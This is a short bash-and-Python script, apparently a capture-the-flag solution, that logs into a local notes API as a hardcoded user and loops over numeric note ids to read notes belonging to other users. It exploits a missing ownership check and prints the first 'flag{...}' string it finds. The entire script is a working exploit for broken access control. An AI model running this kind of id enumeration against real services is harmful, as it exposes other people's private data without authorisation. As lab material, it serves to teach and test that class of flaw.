#!/bin/bash
# Log in as alice, see that note ids are numbers around 1000-1500, then read every id:
# the server checks that you are logged in but not that the note is yours.
set -e
python3 - <<'PY'
import http.client, json, re
c = http.client.HTTPConnection("127.0.0.1", 8105)
def req(method, path, body=None, token=None):
    h = {"Content-Type": "application/json"}
    if token: h["Authorization"] = "Bearer " + token
    c.request(method, path, json.dumps(body) if body is not None else None, h)
    r = c.getresponse()
    return r.status, json.loads(r.read())
_, t = req("POST", "/api/login", {"username": "alice", "password": "wonderland"})
tok = t["token"]
_, mine = req("GET", "/api/notes", token=tok)
lo = min(n["id"] for n in mine)
for nid in range(max(0, lo - 1000), lo + 2000):
    st, note = req("GET", "/api/notes/%d" % nid, token=tok)
    if st == 200:
        m = re.search(r"flag\{[^}]+\}", note.get("body", ""))
        if m:
            print(m.group(0)); break
PY
